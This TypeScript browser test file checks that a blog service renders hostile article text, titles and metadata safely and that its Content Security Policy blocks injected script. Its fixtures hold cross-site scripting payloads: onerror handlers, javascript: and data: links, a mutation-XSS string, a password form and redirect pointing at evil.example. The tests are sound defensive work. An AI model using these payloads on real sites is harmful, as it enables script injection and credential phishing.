import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { lookAt, NO_FAULTS, openTab, startBrowser, takePicture, watchedOf } from './browser.ts';
import { article } from '../../support/service/directory.ts';
import { startServiceAsItself } from '../../support/service/service.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(() => browser.close());

const BREAKS_OUT = `<script>alert(1)</script><img src=x: onerror=alert(2)><svg onload=alert(3)><script>alert(4)</script></svg>
<a href="javascript:alert(5)">press</a> <a href="data:text/html,<script>alert(6)</script>">or this</a>
<iframe srcdoc="<script>alert(7)</script>"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/x">
<link rel=stylesheet href="https://evil.example/x.css"><style>main { display: none }</style><base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/"><form action="https://evil.example/"><input name=password><button>Log in</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(8)&gt;">
</article></main></body></html><p>After the end.</p><plaintext>`;

const CLASHES = `<main id="subscribe" class="subscribe wide"><h1 id="subscribe-title">A heading of their own</h1><h4>Deep</h4><h1>Again</h1></main>
<p style="position:fixed;inset:0;background:red;z-index:9">Over everything</p>
<div role="status" name="said" id="said" hidden>x</div><img name="getElementById" id="querySelector"><a id="body" name="body">x</a>
<header><p>a header</p></header><footer><p>a footer</p></footer><nav>a nav</nav>
<p><b><i>never closed <table><tr><td>${'<table><tr><td>'.repeat(30)}deep`;

const LARGE = `<p>${'wordwithoutend'.repeat(400)}</p><p>${'a\u0301\u0302\u0303\u0304'.repeat(50)}</p>
<table><tr>${'<td>column of a wide table</td>'.repeat(120)}</tr></table><pre>${'x'.repeat(5000)}</pre>
<img width=99999 height=99999 alt="large" src="/none.png">
${'<ul><li>'.repeat(60)}deep</ul>${'<blockquote>'.repeat(60)}deep</blockquote><p>\u202Eoverridden</p><p>after</p>`;

const TITLE =
  '</title></script><script>alert(9)</script> "><img src=x onerror=alert(10)> \u202E\u2066 ]]> <!--';

const files = (text: string) => ({
  'publication.yaml': `title: ${JSON.stringify(`Bells ${TITLE}`)}\ndescription: ${JSON.stringify(TITLE)}\nrights: ${JSON.stringify(TITLE)}\nauthority: example.org\n`,
  'bad.html': `<!doctype html><html><head><title>Bad</title><meta property="article:published_time" content="2026-01-01T10:00:00Z"></head><body><article>${text}</article></body></html>`,
  'bad-too.md': article(
    TITLE,
    '2026-01-02T10:00:00Z',
    text,
    `tags: [${JSON.stringify(TITLE)}]`,
    `authors: [{name: ${JSON.stringify(TITLE)}, url: "javascript:alert(11)"}]`,
    `summary: ${JSON.stringify(TITLE)}`,
  ),
});

test.each([
  ['breaks-out', BREAKS_OUT],
  ['clashes', CLASHES],
  ['large', LARGE],
])('[7] an article that %s affects neither its page nor the list', async (name, text) => {
  const service = await startServiceAsItself(files(text));
  const page = await openTab(browser);
  for (const [which, path] of [
    ['list', '/'],
    ['page', '/articles/bad'],
    ['page-too', '/articles/bad-too'],
  ] as const) {
    await page.goto(service.origin + path);
    const faults = await lookAt(page, `hostile-${name}-${which}`);
    // A missing image is not our fault; every other console message is.
    const messages = faults.messages.filter((message) => !/status of 404/.test(message));
    expect({ ...faults, messages }).toEqual(NO_FAULTS);
    expect(page.url()).toBe(service.origin + path);
    expect(await page.locator('main').count()).toBe(1);
    expect(await page.locator('h1').count()).toBe(1);
    expect(await page.evaluate(`getComputedStyle(document.querySelector('main')).display`)).toBe('block');
    for (const link of await page.locator('a').all()) {
      expect((await link.getAttribute('href')) ?? '').toMatch(/^(https?:|feed:http|mailto:|tel:|$)/);
    }
    // No script is present except the one that copies.
    expect(await page.evaluate(`[...document.scripts].filter((one) => one.type === '').length`)).toBe(
      path === '/' ? 1 : 0,
    );
  }
});

test('[7] text cannot end the structured data, which contains it as written', async () => {
  const service = await startServiceAsItself(files('Text.'));
  const page = await openTab(browser);
  await page.goto(`${service.origin}/articles/bad-too`);
  const written = await page.evaluate<string>(
    `document.querySelector('script[type="application/ld+json"]').textContent`,
  );
  const data = JSON.parse(written) as Record<string, unknown>;
  expect(data['@type']).toBe('BlogPosting');
  expect(String(data['headline'])).toContain('</title></script><script>alert(9)</script>');
  expect(await page.title()).toContain('</title></script><script>alert(9)</script>');
});

test('the policy stops a script that reached a page nevertheless', async () => {
  const service = await startServiceAsItself(files('Text.'));
  const page = await openTab(browser);
  for (const path of ['/', '/articles/bad']) {
    await page.route(service.origin + path, async (route) => {
      const answer = await route.fetch();
      const body = (await answer.text()).replace(
        '</main>',
        '<script>document.title = "run"</script><img src="x:" onerror="document.title = \'run\'"></main>',
      );
      await route.fulfill({ response: answer, body });
    });
    await page.goto(service.origin + path);
    expect(await page.title()).not.toBe('run');
  }
  expect(
    watchedOf(page).messages.filter((message) => /Content Security Policy/.test(message)).length,
  ).toBeGreaterThan(3);
  await takePicture(page, 'hostile-policy');
});
